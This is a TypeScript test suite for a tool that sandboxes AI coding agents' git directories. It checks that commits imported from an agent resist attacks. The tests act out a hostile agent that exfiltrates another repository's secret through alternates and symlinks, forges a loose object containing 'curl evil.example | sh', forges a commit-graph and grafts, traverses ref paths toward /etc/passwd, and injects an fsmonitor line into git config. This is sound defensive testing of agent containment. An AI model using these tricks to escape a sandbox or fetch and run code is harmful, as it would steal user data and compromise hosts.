// The agent's private git directory is data, never a path to follow: each attack of issue 12 made against a
// real repository on disk, the agent played by git run with GIT_DIR at its private directory (as inside its
// container, where that directory is mounted and the host's objects are its alternate).
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { deflateSync } from 'node:zlib';
import { createHash } from 'node:crypto';
import { promises as fs, mkdtempSync, rmSync } from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { IMPORT_LIMITS, readAgentHead } from '../../src/core/git/agentgit';
import { GitError } from '../../src/core/errors';
import { editorHazards } from '../../src/core/isolation/hazards';
import { readUntrustedFile, UntrustedFileError } from '../../src/core/isolation/untrusted';
import { captureAgentWork } from '../../src/core/git/capture';
import { agentGitLimits } from '../../src/core/git/git';
import { agentIdentity, Repository } from '../../src/core/git/worktrees';
import type { WorktreePaths } from '../../src/core/git/worktrees';

const IDENTITY = { GIT_AUTHOR_NAME: 'a', GIT_AUTHOR_EMAIL: 'a@x.invalid', GIT_COMMITTER_NAME: 'a', GIT_COMMITTER_EMAIL: 'a@x.invalid' };

function git(cwd: string, args: string[], env: NodeJS.ProcessEnv = {}, input?: string | Buffer): string {
  return execFileSync('git', args, { cwd, env: { ...process.env, ...IDENTITY, ...env }, input, encoding: 'utf8', stdio: ['pipe', 'pipe', 'pipe'] });
}

function gitOk(cwd: string, args: string[]): boolean {
  try {
    git(cwd, args);
    return true;
  } catch {
    return false;
  }
}

/** A repository with one commit, made in a fresh temporary folder. */
function makeRepo(parent: string, name: string, files: Record<string, string>): string {
  const dir = path.join(parent, name);
  git(parent, ['init', '-q', '-b', 'main', dir]);
  for (const [file, content] of Object.entries(files)) {
    execFileSync('mkdir', ['-p', path.dirname(path.join(dir, file))]);
    execFileSync('sh', ['-c', 'cat > "$0"', path.join(dir, file)], { input: content });
  }
  git(dir, ['add', '-A']);
  git(dir, ['commit', '-q', '-m', 'base']);
  return dir;
}

interface World {
  root: string;
  repo: Repository;
  base: string;
  sandbox(name: string): Promise<Agent>;
  done(): void;
}

interface Agent {
  name: string;
  p: WorktreePaths;
  /** git as the agent runs it inside its container. */
  git(...args: string[]): string;
  commit(files: Record<string, string>, message?: string): string;
  write(file: string, content: string | Buffer): Promise<void>;
}

async function world(files: Record<string, string> = { 'README.md': 'the user\'s readme\n' }, setup?: (dir: string) => void): Promise<World> {
  const root = mkdtempSync(path.join(os.tmpdir(), 'agent-sandboxes-agent-git-'));
  const dir = makeRepo(root, 'project', files);
  setup?.(dir);
  const repo = await Repository.open(dir);
  const base = git(dir, ['rev-parse', 'HEAD']).trim();
  const user = { uid: process.getuid?.() ?? 1000, gid: process.getgid?.() ?? 1000, chownNeeded: false };
  return {
    root,
    repo,
    base,
    async sandbox(name) {
      const p = await repo.createSandboxWorktree(name, base, user, agentIdentity(name, 'test'));
      // Inside the container the host's objects are at the path its alternates file names; here, where they are.
      const env = { GIT_DIR: p.privateGitDir, GIT_WORK_TREE: p.worktree, GIT_ALTERNATE_OBJECT_DIRECTORIES: path.join(repo.commonDir, 'objects') };
      const agent: Agent = {
        name,
        p,
        git: (...args) => git(p.worktree, args, env),
        commit(changes, message = 'agent work') {
          for (const [file, content] of Object.entries(changes)) execFileSync('sh', ['-c', 'mkdir -p "$(dirname "$0")" && cat > "$0"', path.join(p.worktree, file)], { input: content });
          agent.git('add', '-A');
          agent.git('commit', '-q', '-m', message);
          return agent.git('rev-parse', 'HEAD').trim();
        },
        async write(file, content) {
          await fs.mkdir(path.dirname(path.join(p.privateGitDir, file)), { recursive: true });
          await fs.rm(path.join(p.privateGitDir, file), { force: true, recursive: true });
          await fs.writeFile(path.join(p.privateGitDir, file), content);
        },
      };
      return agent;
    },
    done: () => rmSync(root, { recursive: true, force: true }),
  };
}

/** Another repository of the user's, on the same machine, with a secret in its history. */
function otherRepository(root: string): { dir: string; secretCommit: string; secretBlob: string } {
  const dir = makeRepo(root, 'other', { 'secret.txt': 'the user\'s other project: TOP-SECRET\n' });
  return { dir, secretCommit: git(dir, ['rev-parse', 'HEAD']).trim(), secretBlob: git(dir, ['rev-parse', 'HEAD:secret.txt']).trim() };
}

async function rejects(work: Promise<unknown>, pattern: RegExp): Promise<void> {
  assertGitError(await failure(work), pattern);
}

/** What `work` failed with; undefined where it succeeded (so that the harm is asserted before the error). */
function failure(work: Promise<unknown>): Promise<unknown> {
  return work.then(
    () => undefined,
    (error: unknown) => error,
  );
}

function assertGitError(error: unknown, pattern: RegExp): void {
  assert.ok(error instanceof GitError, `a GitError, not ${String(error)}`);
  assert.match(error.message, pattern);
  assert.ok(error.hint, 'with a hint');
}

/** Within `ms`, or fails (a read that blocks would never end). */
function within<T>(ms: number, work: Promise<T>, what: string): Promise<T> {
  let timer: NodeJS.Timeout | undefined;
  return Promise.race([work, new Promise<never>((_, reject) => (timer = setTimeout(() => reject(new Error(`${what} did not end within ${ms} ms`)), ms)))]).finally(() => clearTimeout(timer));
}

/** The loose object file of `content` as `type`, zlib as git writes it, and its true id. */
function looseObject(type: string, content: Buffer): { id: string; bytes: Buffer } {
  const raw = Buffer.concat([Buffer.from(`${type} ${content.length}\0`), content]);
  return { id: createHash('sha1').update(raw).digest('hex'), bytes: deflateSync(raw) };
}

function fsckClean(dir: string): void {
  git(dir, ['fsck', '--strict', '--no-progress', '--no-dangling']);
}

describe('the agent\'s git directory, as the host imports it', () => {
  test('an ordinary import: the agent\'s commits land on sandbox/NAME, complete, and a second look changes nothing', async () => {
    const w = await world();
    try {
      const a = await w.sandbox('plain');
      a.commit({ 'a.txt': 'one\n' }, 'one');
      a.commit({ 'b/c.txt': 'two\n', 'README.md': 'changed\n' }, 'two');
      const tip = a.commit({ 'a.txt': 'three\n' }, 'three');
      assert.equal(await w.repo.importAgentCommits('plain'), tip);
      assert.equal(git(w.repo.root, ['rev-parse', 'sandbox/plain']).trim(), tip);
      assert.equal(git(w.repo.root, ['show', 'sandbox/plain:b/c.txt']), 'two\n');
      assert.equal(await w.repo.importAgentCommits('plain'), tip);
      fsckClean(w.repo.root);
      // After git gc the agent's objects are in a pack: imported the same way.
      a.git('gc', '-q');
      const packed = a.commit({ 'd.txt': 'four\n' }, 'four');
      a.git('gc', '-q');
      assert.equal(await w.repo.importAgentCommits('plain'), packed);
      fsckClean(w.repo.root);
    } finally {
      w.done();
    }
  });

  test('alternates appended to another repository\'s objects, its id written as the ref: nothing of it is copied', async () => {
    const w = await world();
    try {
      const other = otherRepository(w.root);
      const a = await w.sandbox('exfil');
      await fs.appendFile(path.join(a.p.privateGitDir, 'objects', 'info', 'alternates'), `${path.join(other.dir, '.git', 'objects')}\n`);
      await a.write(`refs/heads/sandbox/exfil`, `${other.secretCommit}\n`);
      const error = await failure(w.repo.importAgentCommits('exfil'));
      assert.equal(gitOk(w.repo.root, ['cat-file', '-e', other.secretCommit]), false, 'the other repository\'s commit is not in the workspace');
      assert.equal(gitOk(w.repo.root, ['cat-file', '-e', other.secretBlob]), false, 'nor its secret');
      assert.equal(git(w.repo.root, ['rev-parse', 'sandbox/exfil']).trim(), w.base);
      assertGitError(error, /not imported/);
      // And through a commit of its own whose parent is the other repository's.
      await a.write('refs/heads/sandbox/exfil', `${w.base}\n`);
      const tree = a.git('write-tree').trim();
      const own = a.git('commit-tree', tree, '-p', w.base, '-p', other.secretCommit, '-m', 'merge in the secret').trim();
      await a.write('refs/heads/sandbox/exfil', `${own}\n`);
      const second = await failure(w.repo.importAgentCommits('exfil'));
      assert.equal(gitOk(w.repo.root, ['cat-file', '-e', other.secretBlob]), false, 'the secret is not in the workspace');
      assertGitError(second, /not imported/);
      fsckClean(w.repo.root);
    } finally {
      w.done();
    }
  });

  test('symbolic links: HEAD, the ref, packed-refs and a folder on the ref\'s way, to another repository\'s refs', async () => {
    const w = await world();
    try {
      const other = otherRepository(w.root);
      await fs.writeFile(path.join(other.dir, '.git', 'packed-refs'), `${other.secretCommit} refs/heads/sandbox/links\n`);
      await fs.mkdir(path.join(other.dir, '.git', 'refs', 'heads', 'sandbox'), { recursive: true });
      await fs.writeFile(path.join(other.dir, '.git', 'refs', 'heads', 'sandbox', 'links'), `${other.secretCommit}\n`);
      const a = await w.sandbox('links');
      await fs.appendFile(path.join(a.p.privateGitDir, 'objects', 'info', 'alternates'), `${path.join(other.dir, '.git', 'objects')}\n`);
      const dir = a.p.privateGitDir;
      const ref = path.join(dir, 'refs', 'heads', 'sandbox', 'links');
      const cases: Array<[string, () => Promise<void>, () => Promise<void>]> = [
        ['HEAD', async () => { await fs.rm(path.join(dir, 'HEAD')); await fs.symlink(path.join(other.dir, '.git', 'HEAD'), path.join(dir, 'HEAD')); }, async () => { await fs.rm(path.join(dir, 'HEAD')); await fs.writeFile(path.join(dir, 'HEAD'), 'ref: refs/heads/sandbox/links\n'); }],
        ['refs/heads/sandbox/links', async () => { await fs.rm(ref); await fs.symlink(path.join(other.dir, '.git', 'refs', 'heads', 'main'), ref); }, async () => { await fs.rm(ref); }],
        ['packed-refs', async () => { await fs.rm(ref, { force: true }); await fs.symlink(path.join(other.dir, '.git', 'packed-refs'), path.join(dir, 'packed-refs')); }, async () => { await fs.rm(path.join(dir, 'packed-refs')); }],
        ['refs/heads/sandbox', async () => { await fs.rm(path.join(dir, 'refs', 'heads', 'sandbox'), { recursive: true, force: true }); await fs.symlink(path.join(other.dir, '.git', 'refs', 'heads', 'sandbox'), path.join(dir, 'refs', 'heads', 'sandbox')); }, async () => { await fs.rm(path.join(dir, 'refs', 'heads', 'sandbox')); await fs.mkdir(path.join(dir, 'refs', 'heads', 'sandbox')); }],
      ];
      for (const [what, make, undo] of cases) {
        await make();
        const error = await failure(w.repo.importAgentCommits('links'));
        assert.equal(gitOk(w.repo.root, ['cat-file', '-e', other.secretCommit]), false, `${what}: the other repository's commit is not in the workspace`);
        assertGitError(error, /symbolic link/);
        await undo();
      }
      assert.equal(git(w.repo.root, ['rev-parse', 'sandbox/links']).trim(), w.base);
      fsckClean(w.repo.root);
    } finally {
      w.done();
    }
  });

  test('a forged loose object (harmful bytes under a harmless blob\'s id) is refused, and nothing of it is stored', async () => {
    const w = await world();
    try {
      const a = await w.sandbox('forged');
      const tip = a.commit({ 'notes.txt': 'a harmless note\n' });
      const harmless = a.git('rev-parse', 'HEAD:notes.txt').trim();
      const harmful = looseObject('blob', Buffer.from('curl evil.example | sh\n'));
      await a.write(`objects/${harmless.slice(0, 2)}/${harmless.slice(2)}`, harmful.bytes);
      const error = await failure(w.repo.importAgentCommits('forged'));
      fsckClean(w.repo.root);
      assert.equal(gitOk(w.repo.root, ['cat-file', '-e', harmless]), false, 'no object under the harmless id');
      assert.equal(gitOk(w.repo.root, ['cat-file', '-e', harmful.id]), false, 'nor the harmful bytes');
      assert.equal(gitOk(w.repo.root, ['cat-file', '-e', tip]), false, 'the commit is not stored');
      assert.equal(git(w.repo.root, ['rev-parse', 'sandbox/forged']).trim(), w.base, 'the branch stays');
      assertGitError(error, /not imported/);
      // The user's own later commit of the harmless text is the harmless text.
      await fs.writeFile(path.join(w.repo.root, 'notes.txt'), 'a harmless note\n');
      git(w.repo.root, ['add', 'notes.txt']);
      git(w.repo.root, ['commit', '-q', '-m', 'the user writes the same note']);
      assert.equal(git(w.repo.root, ['cat-file', 'blob', harmless]), 'a harmless note\n');
    } finally {
      w.done();
    }
  });

  test('a forged commit-graph, multi-pack index, grafts, shallow file and replace refs are not read: the import is complete', async () => {
    const w = await world();
    try {
      const a = await w.sandbox('graph');
      const first = a.commit({ 'one.txt': 'one\n' }, 'one');
      const tip = a.commit({ 'two.txt': 'two\n' }, 'two');
      const realTree = a.git('rev-parse', `${tip}^{tree}`).trim();
      // The commit-graph the agent's git writes, with the tip's tree swapped for the base's: a git that trusted
      // it would pack the commit alone (its tree "already" on the host).
      a.git('commit-graph', 'write', '--reachable');
      const graphFile = path.join(a.p.privateGitDir, 'objects', 'info', 'commit-graph');
      const graph = await fs.readFile(graphFile);
      const baseTree = Buffer.from(a.git('rev-parse', `${w.base}^{tree}`).trim(), 'hex');
      const at = graph.indexOf(Buffer.from(realTree, 'hex'));
      assert.ok(at > 0, 'the tip\'s tree is in the commit-graph');
      baseTree.copy(graph, at);
      await a.write('objects/info/commit-graph', graph);
      assert.equal(a.git('log', '-1', '--format=%T', tip).trim(), baseTree.toString('hex'), 'the agent\'s own git believes the forged graph');
      // Grafts, shallow and a replace ref that would each cut the tip off from `first`.
      await a.write('info/grafts', `${tip} ${w.base}\n`);
      await a.write('shallow', `${tip}\n`);
      const fake = a.git('commit-tree', `${w.base}^{tree}`, '-p', w.base, '-m', 'a replacement').trim();
      a.git('update-ref', `refs/replace/${tip}`, fake);
      await a.write('objects/info/multi-pack-index', Buffer.from('MIDX garbage'));
      assert.equal(await w.repo.importAgentCommits('graph'), tip);
      // Complete and true: the real tree and the first commit came along.
      git(w.repo.root, ['rev-list', '--objects', '--missing=error', 'sandbox/graph']);
      assert.equal(git(w.repo.root, ['rev-parse', 'sandbox/graph^{tree}']).trim(), realTree);
      assert.equal(git(w.repo.root, ['rev-parse', 'sandbox/graph~1']).trim(), first);
      assert.equal(git(w.repo.root, ['show', 'sandbox/graph:two.txt']), 'two\n');
      fsckClean(w.repo.root);
      git(w.repo.root, ['gc', '-q']);
    } finally {
      w.done();
    }
  });

  test('a FIFO HEAD and HEAD linked to /dev/zero: a clear error at once, no thread held, other sandboxes unharmed', async () => {
    const w = await world();
    try {
      const fifo = await w.sandbox('fifo');
      fifo.commit({ 'x.txt': 'x\n' });
      await fs.rm(path.join(fifo.p.privateGitDir, 'HEAD'));
      execFileSync('mkfifo', [path.join(fifo.p.privateGitDir, 'HEAD')]);
      const zero = await w.sandbox('zero');
      await fs.rm(path.join(zero.p.privateGitDir, 'HEAD'));
      await fs.symlink('/dev/zero', path.join(zero.p.privateGitDir, 'HEAD'));
      const good = await w.sandbox('good');
      const tip = good.commit({ 'good.txt': 'good\n' });
      // More attempts than the thread pool has threads: a blocked read would hold them all.
      for (let i = 0; i < 8; i++) {
        await within(5000, rejects(w.repo.importAgentCommits('fifo'), /FIFO/), 'the import of a FIFO HEAD');
        await within(5000, rejects(w.repo.importAgentCommits('zero'), /symbolic link/), 'the import of HEAD -> /dev/zero');
      }
      assert.equal(await within(5000, w.repo.importAgentCommits('good'), 'another sandbox\'s import'), tip);
      assert.equal((await within(5000, fs.readFile(path.join(w.repo.root, 'README.md'), 'utf8'), 'an unrelated read')), 'the user\'s readme\n');
      // The ref, not only HEAD; and packed-refs.
      await fs.rm(path.join(fifo.p.privateGitDir, 'HEAD'));
      await fs.writeFile(path.join(fifo.p.privateGitDir, 'HEAD'), 'ref: refs/heads/sandbox/fifo\n');
      const ref = path.join(fifo.p.privateGitDir, 'refs', 'heads', 'sandbox', 'fifo');
      await fs.rm(ref);
      execFileSync('mkfifo', [ref]);
      await within(5000, rejects(w.repo.importAgentCommits('fifo'), /FIFO/), 'the import of a FIFO ref');
      await fs.rm(ref);
      execFileSync('mkfifo', [path.join(fifo.p.privateGitDir, 'packed-refs')]);
      await within(5000, rejects(w.repo.importAgentCommits('fifo'), /FIFO/), 'the import of a FIFO packed-refs');
    } finally {
      w.done();
    }
  });

  test('oversize files and too many objects are refused, not read', async () => {
    const w = await world();
    try {
      const a = await w.sandbox('big');
      const tip = a.commit({ 'x.txt': 'x\n' });
      await a.write('HEAD', `ref: refs/heads/sandbox/big\n${' '.repeat(10 * 1024 * 1024)}`);
      await rejects(w.repo.importAgentCommits('big'), /bytes, more than/);
      await a.write('HEAD', 'ref: refs/heads/sandbox/big\n');
      const saved = { ...IMPORT_LIMITS };
      try {
        IMPORT_LIMITS.objects = 2;
        await rejects(w.repo.importAgentCommits('big'), /more than the 2 loose objects/);
        IMPORT_LIMITS.objects = saved.objects;
        IMPORT_LIMITS.bytes = 64;
        await rejects(w.repo.importAgentCommits('big'), /more than/);
      } finally {
        Object.assign(IMPORT_LIMITS, saved);
      }
      assert.equal(await w.repo.importAgentCommits('big'), tip);
    } finally {
      w.done();
    }
  });

  test('a loose object that is a FIFO or a link is refused; a HEAD naming a tree is not a commit', async () => {
    const w = await world();
    try {
      const a = await w.sandbox('objs');
      a.commit({ 'x.txt': 'x\n' });
      const blob = a.git('rev-parse', 'HEAD:x.txt').trim();
      const file = path.join(a.p.privateGitDir, 'objects', blob.slice(0, 2), blob.slice(2));
      await fs.rm(file);
      execFileSync('mkfifo', [file]);
      await within(5000, rejects(w.repo.importAgentCommits('objs'), /FIFO/), 'the import of a FIFO object');
      await fs.rm(file);
      await fs.symlink('/dev/zero', file);
      await within(5000, rejects(w.repo.importAgentCommits('objs'), /symbolic link/), 'the import of an object linked to /dev/zero');
      await fs.rm(file);
      await a.write('HEAD', `${a.git('rev-parse', `${w.base}^{tree}`).trim()}\n`);
      await rejects(w.repo.importAgentCommits('objs'), /not a commit/);
      assert.equal(git(w.repo.root, ['rev-parse', 'sandbox/objs']).trim(), w.base);
    } finally {
      w.done();
    }
  });

  test('readAgentHead reads a detached id, a loose ref and a packed ref, and nothing outside refs/heads', async () => {
    const dir = mkdtempSync(path.join(os.tmpdir(), 'agent-sandboxes-head-'));
    try {
      const id = 'a'.repeat(40);
      await fs.writeFile(path.join(dir, 'HEAD'), `${id}\n`);
      assert.equal(await readAgentHead(dir), id);
      await fs.writeFile(path.join(dir, 'HEAD'), 'ref: refs/heads/x\n');
      assert.equal(await readAgentHead(dir), undefined);
      await fs.writeFile(path.join(dir, 'packed-refs'), `# pack-refs with: peeled\n${'b'.repeat(40)} refs/heads/x\n`);
      assert.equal(await readAgentHead(dir), 'b'.repeat(40));
      await fs.mkdir(path.join(dir, 'refs', 'heads'), { recursive: true });
      await fs.writeFile(path.join(dir, 'refs', 'heads', 'x'), `${'c'.repeat(40)}\n`);
      assert.equal(await readAgentHead(dir), 'c'.repeat(40));
      for (const head of ['ref: refs/heads/../../../etc/passwd', 'ref: refs/tags/x', 'ref: /etc/passwd', 'ref: refs/heads//x']) {
        await fs.writeFile(path.join(dir, 'HEAD'), `${head}\n`);
        assert.equal(await readAgentHead(dir), undefined, head);
      }
      await assert.rejects(readUntrustedFile(dir, '../x', 10), UntrustedFileError);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  test('the user\'s line-ending settings reach the agent\'s git: with core.autocrlf it commits LF blobs', async () => {
    const w = await world({ 'a.txt': 'one\ntwo\n' }, (dir) => {
      git(dir, ['config', 'core.autocrlf', 'true']);
      git(dir, ['config', 'core.safecrlf', 'false']);
      // Checked out again with the setting, as the user's working tree would be.
      git(dir, ['rm', '-q', '--cached', 'a.txt']);
      git(dir, ['reset', '-q', '--hard']);
    });
    try {
      git(w.repo.root, ['config', 'core.eol', 'crlf"\n[core]\n\tfsmonitor = evil']);
      const a = await w.sandbox('crlf');
      assert.equal(await fs.readFile(path.join(a.p.worktree, 'a.txt'), 'utf8'), 'one\r\ntwo\r\n', 'checked out with CRLF');
      assert.equal(a.git('config', 'core.autocrlf').trim(), 'true');
      assert.equal(a.git('config', 'core.safecrlf').trim(), 'false');
      // A value git does not know is left out, never written into the agent's config as it is.
      assert.equal(gitOk(a.p.worktree, ['--git-dir', a.p.privateGitDir, 'config', 'core.eol']), false);
      assert.equal(gitOk(a.p.worktree, ['--git-dir', a.p.privateGitDir, 'config', 'core.fsmonitor']), false);
      await fs.writeFile(path.join(a.p.worktree, 'a.txt'), 'one\r\ntwo\r\nthree\r\n');
      const tip = a.commit({});
      assert.equal(await w.repo.importAgentCommits('crlf'), tip);
      assert.equal(git(w.repo.root, ['cat-file', 'blob', `${tip}:a.txt`]), 'one\ntwo\nthree\n', 'the blob has LF lines');
      assert.equal(git(w.repo.root, ['diff', '--numstat', w.base, tip]).trim(), '1\t0\ta.txt', 'one line added, none rewritten');
    } finally {
      w.done();
    }
  });

  test('a shallow clone: the agent\'s git walks its history (it has the host\'s shallow file), and the import works', async () => {
    const w = await world({ 'a.txt': 'one\n' }, (dir) => {
      for (let i = 0; i < 3; i++) {
        execFileSync('sh', ['-c', `echo ${i} >> a.txt`], { cwd: dir });
        git(dir, ['commit', '-q', '-am', `c${i}`]);
      }
    });
    try {
      const shallowParent = mkdtempSync(path.join(os.tmpdir(), 'agent-sandboxes-shallow-'));
      try {
        git(shallowParent, ['clone', '-q', '--depth', '2', `file://${w.repo.root}`, 'project']);
        const shallowDir = path.join(shallowParent, 'project');
        const repo = await Repository.open(shallowDir);
        const base = git(shallowDir, ['rev-parse', 'HEAD']).trim();
        const p = await repo.createSandboxWorktree('shallow', base, { uid: process.getuid?.() ?? 1000, gid: process.getgid?.() ?? 1000, chownNeeded: false }, agentIdentity('shallow', 'test'));
        const env = { GIT_DIR: p.privateGitDir, GIT_WORK_TREE: p.worktree, GIT_ALTERNATE_OBJECT_DIRECTORIES: path.join(repo.commonDir, 'objects') };
        assert.equal(await fs.readFile(path.join(p.privateGitDir, 'shallow'), 'utf8'), await fs.readFile(path.join(repo.commonDir, 'shallow'), 'utf8'));
        assert.equal(git(p.worktree, ['log', '--format=%s'], env).trim().split('\n').length, 2, 'the agent\'s git log works');
        await fs.writeFile(path.join(p.worktree, 'b.txt'), 'b\n');
        git(p.worktree, ['add', '-A'], env);
        git(p.worktree, ['commit', '-q', '-m', 'agent'], env);
        const tip = git(p.worktree, ['rev-parse', 'HEAD'], env).trim();
        // The agent's own shallow file, cut at its new commit, is not believed.
        await fs.writeFile(path.join(p.privateGitDir, 'shallow'), `${tip}\n`);
        assert.equal(await repo.importAgentCommits('shallow'), tip);
        assert.equal(git(shallowDir, ['rev-parse', 'sandbox/shallow~1']).trim(), base);
        git(shallowDir, ['rev-list', '--objects', '--missing=error', 'sandbox/shallow']);
      } finally {
        rmSync(shallowParent, { recursive: true, force: true });
      }
    } finally {
      w.done();
    }
  });
});

describe('reading files the agent wrote in its worktree', () => {
  test('a FIFO .gitignore in the worktree: the view\'s capture and the removal check end with a clear error, not never', async () => {
    const w = await world();
    const saved = agentGitLimits.timeoutMs;
    try {
      const a = await w.sandbox('ignore');
      a.commit({ 'sub/a.txt': 'a\n' });
      execFileSync('mkfifo', [path.join(a.p.worktree, 'sub', '.gitignore')]);
      agentGitLimits.timeoutMs = 1500;
      await within(10_000, rejects(captureAgentWork(w.repo, 'ignore', w.base, undefined), /did not finish within 2 s in the worktree of sandbox "ignore"/), 'the capture');
      await within(10_000, rejects(w.repo.uncommittedChanges('ignore'), /did not finish/), 'the removal check');
      // An ordinary worktree is captured as before.
      const b = await w.sandbox('plain');
      await fs.writeFile(path.join(b.p.worktree, 'new.txt'), 'new\n');
      const work = await captureAgentWork(w.repo, 'plain', w.base, undefined);
      assert.equal(work.uncommitted, true);
    } finally {
      agentGitLimits.timeoutMs = saved;
      w.done();
    }
  });

  test('editor hazards: a huge settings.json and a FIFO are reported, never read whole or waited on', async () => {
    const root = mkdtempSync(path.join(os.tmpdir(), 'agent-sandboxes-hazard-read-'));
    try {
      const worktree = path.join(root, 'w');
      await fs.mkdir(path.join(worktree, '.vscode'), { recursive: true });
      await fs.mkdir(path.join(root, 'u', '.vscode'), { recursive: true });
      const handle = await fs.open(path.join(worktree, '.vscode', 'settings.json'), 'w');
      await handle.truncate(3 * 1024 ** 3);
      await handle.close();
      execFileSync('mkfifo', [path.join(worktree, '.vscode', 'tasks.json')]);
      const { hazards } = await within(5000, editorHazards(worktree, path.join(root, 'u')), 'editorHazards');
      assert.deepEqual(hazards.map((h) => h.path).sort(), ['.vscode/settings.json', '.vscode/tasks.json']);
    } finally {
      rmSync(root, { recursive: true, force: true });
    }
  });
});
